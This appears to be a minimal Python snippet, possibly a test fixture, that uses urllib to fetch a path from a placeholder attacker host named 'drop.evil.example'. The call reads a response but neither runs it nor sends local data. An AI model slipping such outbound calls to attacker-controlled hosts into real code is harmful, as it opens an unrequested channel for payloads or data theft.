import urllib.request

urllib.request.urlopen("http://drop.evil.example:8080/hello").read()
